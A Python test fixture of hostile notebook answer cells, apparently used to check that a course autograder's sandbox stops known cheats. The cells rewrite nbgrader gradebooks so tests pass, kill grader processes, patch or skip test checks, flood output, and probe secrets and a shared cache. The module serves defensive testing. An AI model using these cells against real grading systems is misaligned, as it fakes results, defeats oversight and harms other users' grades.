"""Hostile answer cells for the attack tests, one per way issue 8 found to beat the grader.

Each is code for one answer cell of the fixture solution (helpers.answer); the rest of the
notebook stays right, so a score other than the one a test expects is the attack's doing.
"""

from __future__ import annotations

RIGHT_MEAN = 'my_mean = df["monthly_charge"].mean()\n'

# Finds the private course through the environment and rewrites every gradebook and source in it
# (test cells become `pass`, with nbgrader's checksum made afresh): without the sandbox, everyone
# graded after it gets full marks, in this run and every later one in that home.
GRADEBOOK_REWRITE = RIGHT_MEAN + '''
import glob, json, os, sqlite3
roots = {os.environ.get("DSROLES_HOME", "")}  # never above it: this must not reach other projects
for var in ("DSROLES_GRADING_JOB", "JUPYTER_PATH"):  # the private course, found from the job
    path = os.environ.get(var, "")
    while path and path != "/" and os.path.basename(path) != "course":
        path = os.path.dirname(path)
    roots.add(path if os.path.basename(path) == "course" else "")
roots.discard("")
rewritten = []
for root in roots:
    for db in glob.glob(os.path.join(root, "**", "*.db"), recursive=True):
        try:
            from nbformat.v4 import new_code_cell
            from nbgrader.utils import compute_checksum
            con = sqlite3.connect(db)
            cells = con.execute("SELECT b.name, g.max_score FROM grade_cells g JOIN base_cell b ON b.id = g.id "
                                "WHERE b.name LIKE 'test_%'")
            for name, points in cells.fetchall():
                cell = new_code_cell("pass", metadata={"nbgrader": {
                    "grade": True, "solution": False, "locked": True, "task": False, "grade_id": name,
                    "points": points, "schema_version": 3}})
                con.execute("UPDATE source_cell SET source = 'pass', checksum = ? WHERE name = ?",
                            (compute_checksum(cell), name))
            con.commit()
            con.close()
            rewritten.append(db)
        except Exception:
            pass
    for nb in glob.glob(os.path.join(root, "**", "source", "**", "*.ipynb"), recursive=True):
        try:
            data = json.load(open(nb))
            for cell in data["cells"]:
                if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id", "").startswith("test_"):
                    cell["source"] = "pass"
            json.dump(data, open(nb, "w"))
            rewritten.append(nb)
        except Exception:
            pass
'''


def kill_the_grader(grader_pid: int) -> str:
    """SIGKILL the grading process (its pid typed in), the kernel's parent and every pid in sight."""
    return RIGHT_MEAN + f'''
import os, signal
targets = {{{grader_pid}, os.getppid()}} | {{int(p) for p in os.listdir("/proc") if p.isdigit()}}
for pid in sorted(targets - {{os.getpid()}}):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
'''


KILL_WORKER = RIGHT_MEAN + "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n"

SEED_HOOK = '''def back_to_my_seed(*args):
    globals()["seed"] = 7
get_ipython().events.register("pre_run_cell", back_to_my_seed)
my_mean = {literal!r}
'''

INPUT_TRANSFORMER = '''def skip_tests(lines):
    return ["pass\\n"] if any("_check(" in line for line in lines) else lines
get_ipython().input_transformers_cleanup.append(skip_tests)
'''

PATCHED_CHECK = '''import dsroles.checks.testcell as testcell
testcell.assert_check = lambda *args, **kwargs: None
import dsroles.checks
dsroles.checks.assert_check = testcell.assert_check
my_mean = 0
'''

# A model planted in the shared project's fit cache would be what a hidden test's reference
# fits: a grading kernel has no cache (and turning one on is a change the guard sees).
PLANTED_FIT = RIGHT_MEAN + '''import collections
import dsroles.churn.train as train
assert train._fits is None, "the fit cache is on in a grading kernel"
train._fits = collections.OrderedDict()
'''

ANSWER_KEY_EXPECTED = '''from dsroles.tracks.start import welcome
my_mean = welcome.mean.expected(seed)
'''

ANSWER_KEY_SOLUTION = '''from dsroles.tracks.start import welcome
welcome.mean.solution()
my_mean = df["monthly_charge"].mean()
'''

DISPLAY_FLOOD = '''import sys
from IPython.display import display
for _ in range(20):
    display({"text/plain": "x" * 10_000_000}, raw=True)
del sys.stdout.write
for _ in range(20_000):
    print("spam " * 40)
my_choice = "median"
'''


def look_around(paths: list[str], host_port: int, cache: str) -> str:
    """Try to see secrets, reach the host's loopback and poison the shared cache; serve on the
    sandbox's own loopback. Fails (so the item fails) if anything outside was reached."""
    return f'''import os, socket
seen = []
for path in {paths!r}:  # a file in it (empty folders are mount points; the kernel's own folder is its)
    if any(files for root, _, files in os.walk(path) if not root.startswith(os.getcwd())):
        seen.append(path)
try:
    socket.create_connection(("127.0.0.1", {host_port}), timeout=2).close()
    seen.append("the host's loopback")
except OSError:
    pass
try:
    with open(os.path.join({cache!r}, "poison"), "w") as poison:
        poison.write("x")
except OSError:
    pass
server = socket.socket()
server.bind(("127.0.0.1", 0))
server.listen()
socket.create_connection(server.getsockname(), timeout=2).close()
server.close()
assert not seen, f"the sandbox let the notebook see {{seen}}"
my_choice = "median"
'''
